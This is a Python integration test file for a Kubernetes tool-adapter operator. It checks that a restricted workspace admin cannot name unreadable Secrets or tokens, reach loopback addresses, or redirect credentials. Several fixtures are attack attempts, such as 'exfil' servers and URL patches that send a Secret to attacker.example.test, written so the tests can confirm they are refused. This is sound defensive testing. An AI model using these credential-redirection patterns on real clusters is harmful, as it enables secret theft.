"""Closing the holes an agent (or a workspace admin) would use: the operator as a confused
deputy for Secrets, tokens and its own network position, and mistyped environment labels.

Every test acts with only the rights of the attacker it plays: a ServiceAccount bound to a
namespaced Role, or an agent with the requester role. The operator is the session's process.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any
from urllib.parse import urlsplit

import pytest
from kubernetes import client

from tests.integration.objects import Agent, create, custom, descriptor, get, pretty, status_of
from tests.integration.servers import recording_server
from tests.mcp_servers import ServerProcess
from tooladapter import GROUP, VERSION
from tooladapter.devtools import (
    Namespace,
    OperatorProcess,
    client_with_token,
    token_for,
    wait_for,
)

pytestmark = [pytest.mark.cluster, pytest.mark.timeout(240)]

LOOPBACK = "127.0.0.1"


# --------------------------------------------------------------------------- helpers


def role_client(
    api: client.ApiClient, namespace: str, name: str, rules: list[dict[str, Any]]
) -> client.ApiClient:
    """A ServiceAccount bound to a namespaced Role of exactly `rules`, as a client."""
    rbac = client.RbacAuthorizationV1Api(api)
    rbac.create_namespaced_role(namespace, {"metadata": {"name": name}, "rules": rules})  # type: ignore[arg-type]  # the client sends a dict body as is
    token = token_for(api, namespace, name)
    rbac.create_namespaced_role_binding(
        namespace,
        {  # type: ignore[arg-type]  # the client sends a dict body as is
            "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
            "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": namespace}],
        },
    )
    return client_with_token(api, token)


def refused(attempt: Callable[[], Any]) -> str:
    """The body of the API server's refusal (403 from admission, 422 from the schema)."""
    try:
        attempt()
    except client.ApiException as exc:
        assert exc.status in (403, 422), (exc.status, exc.body)
        return str(exc.body)
    raise AssertionError("the API server accepted what it should have refused")


def admitted(attempt: Callable[[], Any]) -> bool:
    """For `wait_for`: True once RBAC lets the attempt through (a fresh binding settles)."""
    try:
        attempt()
    except client.ApiException as exc:
        if exc.status == 403:
            return False
        raise
    return True


def patch(api: client.ApiClient, namespace: str, plural: str, name: str, body: Any) -> Any:
    return custom(api).patch_namespaced_custom_object(GROUP, VERSION, namespace, plural, name, body)


def tool_body(tool_id: str, **spec: Any) -> dict[str, Any]:
    """An http tool of api.example.test; its egress is explicit, as credentials require."""
    return {
        "kind": "ToolDescriptor",
        "metadata": {"name": tool_id},
        "spec": {
            "toolId": tool_id,
            "version": "1.0.0",
            "kind": "http",
            "sideEffectClass": "read",
            "http": {"url": "https://api.example.test/v1", "allowedHosts": ["api.example.test"]},
            **spec,
        },
    }


def from_secret(secret: str, host: str = "api.example.test") -> dict[str, Any]:
    """A `spec.credentials` entry sending a Secret's `password` key to `host`."""
    return {
        "name": secret,
        "source": {"secretKeyRef": {"name": secret, "key": "password"}},
        "inject": {"hosts": [host]},
    }


def from_token(service_account: str, **source: Any) -> dict[str, Any]:
    """A `spec.credentials` entry sending a ServiceAccount's token to api.example.test."""
    return {
        "name": service_account,
        "source": {"serviceAccountToken": {"serviceAccountName": service_account, **source}},
        "inject": {"hosts": ["api.example.test"]},
    }


def container_body(tool_id: str, **spec: Any) -> dict[str, Any]:
    """A container tool with no egress (explicitly), for credential files."""
    return {
        "kind": "ToolDescriptor",
        "metadata": {"name": tool_id},
        "spec": {
            "toolId": tool_id,
            "version": "1.0.0",
            "kind": "container",
            "sideEffectClass": "read",
            "inputSchema": {"type": "object"},
            "sandbox": {"command": ["true"], "egress": {"allow": []}},
            **spec,
        },
    }


def server_body(name: str, url: str, **spec: Any) -> dict[str, Any]:
    return {"kind": "McpServer", "metadata": {"name": name}, "spec": {"url": url, **spec}}


@pytest.fixture
def loopback_server() -> Iterator[tuple[int, list[str]]]:
    """An HTTP server on 127.0.0.1 that records every request path it gets."""
    with recording_server(LOOPBACK) as server:
        yield server.port, server.paths


# --------------------------------------------------------------------------- Secret references


def test_a_workspace_admin_without_get_on_a_secret_cannot_name_it(
    api: client.ApiClient, ns: Namespace
) -> None:
    core = client.CoreV1Api(api)
    for secret in ("db", "mine"):
        core.create_namespaced_secret(
            ns.name,
            {"metadata": {"name": secret}, "stringData": {"password": "hunter2"}},  # type: ignore[arg-type]  # the client sends a dict body as is
        )
    for sa in ("robot", "mine-sa"):
        core.create_namespaced_service_account(ns.name, {"metadata": {"name": sa}})  # type: ignore[arg-type]  # the client sends a dict body as is
    # May publish tools and register servers; may read only its own Secret and mint tokens
    # only for its own ServiceAccount.
    ws = role_client(
        api,
        ns.name,
        "publisher",
        [
            {
                "apiGroups": [GROUP],
                "resources": ["tooldescriptors", "mcpservers"],
                "verbs": ["get", "list", "create", "update", "patch"],
            },
            {
                "apiGroups": [""],
                "resources": ["secrets"],
                "verbs": ["get"],
                "resourceNames": ["mine"],
            },
            {
                "apiGroups": [""],
                "resources": ["serviceaccounts/token"],
                "verbs": ["create"],
                "resourceNames": ["mine-sa"],
            },
        ],
    )
    wait_for(
        lambda: admitted(lambda: create(ws, ns.name, "tooldescriptors", tool_body("plain"))),
        timeout=30,
        what="the publisher's Role effective",
    )

    # Naming a Secret it cannot read: refused, naming the Secret.
    db = [from_secret("db")]
    body = refused(
        lambda: create(ws, ns.name, "tooldescriptors", tool_body("steal", credentials=db))
    )
    assert "Secret(s) db" in body and "may not get" in body, body
    body = refused(
        lambda: create(
            ws,
            ns.name,
            "mcpservers",
            server_body(
                "exfil",
                "https://attacker.example.test/mcp",
                credentials=[from_secret("db", "attacker.example.test")],
            ),
        )
    )
    assert "Secret(s) db" in body, body
    # ... or a ServiceAccount it may not mint tokens for, whatever the token is sent as.
    robot = [from_token("robot", audiences=["x"])]
    body = refused(
        lambda: create(ws, ns.name, "tooldescriptors", tool_body("mint", credentials=robot))
    )
    assert "ServiceAccount(s) robot" in body and "serviceaccounts/token" in body, body
    robot_file = [
        {
            "name": "robot",
            "source": {"serviceAccountToken": {"serviceAccountName": "robot"}},
            "inject": {"file": "/tooladapter/credentials/robot/token"},
        }
    ]
    body = refused(
        lambda: create(
            ws,
            ns.name,
            "tooldescriptors",
            container_body("mint-file", credentials=robot_file),
        )
    )
    assert "ServiceAccount(s) robot" in body and "serviceaccounts/token" in body, body
    # A Secret mounted as a file of a container tool: the same refusal.
    db_file = [
        {
            "name": "db",
            "source": {"secretKeyRef": {"name": "db", "key": "password"}},
            "inject": {"file": "/tooladapter/credentials/db/password"},
        }
    ]
    body = refused(
        lambda: create(
            ws, ns.name, "tooldescriptors", container_body("steal-file", credentials=db_file)
        )
    )
    assert "Secret(s) db" in body and "may not get" in body, body
    # Two references, one readable: still refused.
    both = [*db, from_secret("mine")]
    body = refused(
        lambda: create(ws, ns.name, "tooldescriptors", tool_body("both", credentials=both))
    )
    assert "Secret(s) db, mine in" in body, body

    # What it may read itself, it may name.
    create(ws, ns.name, "tooldescriptors", tool_body("own", credentials=[from_secret("mine")]))
    create(ws, ns.name, "tooldescriptors", tool_body("own-sa", credentials=[from_token("mine-sa")]))
    create(
        ws,
        ns.name,
        "mcpservers",
        server_body(
            "own-server",
            "https://mcp.example.test/mcp",
            credentials=[from_secret("mine", "mcp.example.test")],
        ),
    )

    # An admin's objects that name `db`: the publisher cannot redirect them ...
    create(api, ns.name, "tooldescriptors", tool_body("admin-tool", credentials=db))
    body = refused(
        lambda: patch(
            ws,
            ns.name,
            "tooldescriptors",
            "admin-tool",
            {"spec": {"http": {"url": "https://attacker.example.test/"}}},
        )
    )
    assert "Secret(s) db" in body, body
    create(
        api,
        ns.name,
        "mcpservers",
        server_body(
            "admin-server",
            "https://mcp.example.test/mcp",
            credentials=[from_secret("db", "mcp.example.test")],
        ),
    )
    for change in (
        {"url": "https://attacker.example.test/mcp"},
        {"allowedCidrs": ["10.0.0.0/8"]},
        {
            "credentials": [
                {
                    **from_secret("db", "mcp.example.test"),
                    "inject": {"hosts": ["mcp.example.test"], "header": "X-Leak"},
                }
            ]
        },
    ):
        body = refused(partial(patch, ws, ns.name, "mcpservers", "admin-server", {"spec": change}))
        assert "Secret(s) db" in body, (change, body)
    # ... but metadata-only changes (labels) do not move a credential.
    patch(ws, ns.name, "tooldescriptors", "admin-tool", {"metadata": {"labels": {"team": "a"}}})

    # Where an activated server is reached is the platform admin's call, credentials or not.
    create(
        api,
        ns.name,
        "mcpservers",
        server_body("activated", "https://mcp.example.test/mcp", activated=True),
    )
    body = refused(
        lambda: patch(
            ws,
            ns.name,
            "mcpservers",
            "activated",
            {"spec": {"url": "https://attacker.example.test/mcp"}},
        )
    )
    assert "mcpservers/activation" in body, body


# --------------------------------------------------------------------------- addresses


def http_descriptor(
    api: client.ApiClient, namespace: str, tool_id: str, url: str, **http: Any
) -> None:
    descriptor(
        api,
        namespace,
        tool_id,
        kind="http",
        inputSchema={"type": "object", "additionalProperties": False},
        http={"method": "GET", "url": url, **http},
    )


def test_an_http_tool_whose_host_resolves_to_loopback_is_refused(
    api: client.ApiClient, ns: Namespace, agent: Agent, loopback_server: tuple[int, list[str]]
) -> None:
    port, hits = loopback_server
    # A host name resolving to 127.0.0.1, even allow-listed by name; a literal only in the
    # URL; a mapped IPv6 spelling of it: none is an explicit allowance of the address.
    http_descriptor(
        api,
        ns.name,
        "by-name",
        f"http://localhost:{port}/by-name",
        allowedHosts=[f"localhost:{port}"],
    )
    http_descriptor(api, ns.name, "literal", f"http://{LOOPBACK}:{port}/literal")
    http_descriptor(api, ns.name, "mapped", f"http://[::ffff:{LOOPBACK}]:{port}/mapped")
    # The explicit allowance: the address itself in allowedHosts.
    http_descriptor(
        api,
        ns.name,
        "allowed",
        f"http://{LOOPBACK}:{port}/allowed",
        allowedHosts=[f"{LOOPBACK}:{port}"],
    )
    agent.grant(["by-name", "literal", "mapped", "allowed"], ["read"])

    for tool in ("by-name", "literal", "mapped"):
        status = status_of(agent.wait(agent.invoke(tool, {})))
        assert status["state"] == "Failed", pretty(status)
        assert status["failureClass"] == "policy-denied", pretty(status)
        assert "loopback" in status["message"] and "not sent" in status["message"], status
    assert hits == [], "a refused call reached the server"

    status = status_of(agent.wait(agent.invoke("allowed", {})))
    assert status["state"] == "Observed", pretty(status)
    assert hits == ["/allowed"]


# --------------------------------------------------------------------------- MCP credentials


@pytest.fixture
def token_server() -> Iterator[tuple[ServerProcess, str]]:
    token = f"mcp-{uuid.uuid4().hex}"
    with ServerProcess("--mode", "current", "--token", token) as proc:
        yield proc, token


def wait_server(
    api: client.ApiClient, namespace: str, name: str, done: Callable[[dict[str, Any]], bool]
) -> dict[str, Any]:
    return wait_for(
        lambda: (
            s if (s := status_of(get(api, namespace, "mcpservers", name))) and done(s) else None
        ),
        timeout=60,
        what=f"McpServer {name}",
    )


def test_a_server_nobody_activated_never_receives_its_credentials(
    api: client.ApiClient, ns: Namespace, token_server: tuple[ServerProcess, str]
) -> None:
    server, token = token_server
    client.CoreV1Api(api).create_namespaced_secret(
        ns.name,
        {"metadata": {"name": "mcp-token"}, "stringData": {"token": token}},  # type: ignore[arg-type]  # the client sends a dict body as is
    )
    # By name: an `inject.hosts` entry is a host name (`localhost:<port>`), not an IP literal.
    url = server.url.replace("//127.0.0.1:", "//localhost:")
    credentials = [
        {
            "name": "mcp-token",
            "source": {"secretKeyRef": {"name": "mcp-token", "key": "token"}},
            "inject": {"hosts": [urlsplit(url).netloc]},
        }
    ]
    create(
        api,
        ns.name,
        "mcpservers",
        server_body(
            "tools",
            url,
            credentials=credentials,
            allowedCidrs=[f"{LOOPBACK}/32"],
            probe={"intervalSeconds": 2, "timeoutSeconds": 3},
        ),
    )
    # Verified without the credential: the server answered 401, so it is reachable; had the
    # token been sent, discovery would have listed its tools.
    verified = wait_server(api, ns.name, "tools", lambda s: s.get("phase") == "Verified")
    assert verified["lastProbe"]["ok"] is True, pretty(verified)
    assert "401" in verified["lastProbe"]["message"], verified["lastProbe"]
    assert not verified.get("tools"), pretty(verified)
    assert verified["verifiedUrl"] == url
    # Several probes later, still nothing was sent with the token.
    first = verified["lastProbe"]["time"]
    again = wait_server(api, ns.name, "tools", lambda s: s["lastProbe"]["time"] != first)
    assert again["phase"] == "Verified" and not again.get("tools"), pretty(again)

    # The platform admin activates it: now (and only now) the credential goes to that url.
    patch(api, ns.name, "mcpservers", "tools", {"spec": {"activated": True}})
    active = wait_server(api, ns.name, "tools", lambda s: s.get("phase") == "Active")
    assert {t["name"] for t in active["tools"]} >= {"echo", "add"}, pretty(active)

    # The same server, activated, but without an explicit allowance of its loopback address:
    # never contacted at all.
    create(
        api,
        ns.name,
        "mcpservers",
        server_body("unlisted", url, credentials=credentials, activated=True),
    )
    unlisted = wait_server(api, ns.name, "unlisted", lambda s: bool(s.get("lastProbe")))
    assert unlisted["phase"] == "Registered", pretty(unlisted)
    assert "loopback" in unlisted["lastProbe"]["message"], unlisted["lastProbe"]
    assert not unlisted.get("verifiedUrl")


# --------------------------------------------------------------------------- environment class


def test_an_unknown_environment_class_is_treated_as_production(
    api: client.ApiClient, operator: OperatorProcess
) -> None:
    space = Namespace(api, {"tooladapter.dev/environment-class": "Production"})
    try:
        agent = Agent.create(api, space.name, "a")
        descriptor(
            api,
            space.name,
            "write",
            kind="native",
            native={"name": "list-tools"},
            side_effect_class="shared-write",
        )
        # Granted the declared class only: a production call needs `use` on production.
        agent.grant(["write"], ["shared-write"])
        status = status_of(agent.wait(agent.invoke("write", {})))
        assert status["state"] == "Denied" and status["deniedStage"] == "permission", status
        assert "sideeffectclasses/production" in status["message"], pretty(status)
        # Granted production as well, the call waits for a production approval.
        agent.grant([], ["production"])
        name = agent.invoke("write", {})
        waiting = status_of(agent.wait(name, states={"AwaitingApproval", "Denied", "Observed"}))
        assert waiting["state"] == "AwaitingApproval", pretty(waiting)
        assert waiting["declaredClass"] == "shared-write"
        assert waiting["effectiveClass"] == "production", pretty(waiting)

        def warned() -> str | None:
            events = client.CoreV1Api(api).list_namespaced_event(
                space.name, field_selector="involvedObject.kind=Namespace"
            )
            found = [e for e in events.items if e.reason == "UnknownEnvironmentClass"]
            return found[0].message if found and found[0].type == "Warning" else None

        message = wait_for(warned, timeout=60, what="a Warning event on the Namespace")
        assert "Production" in message and "treated as production" in message
    finally:
        space.delete()
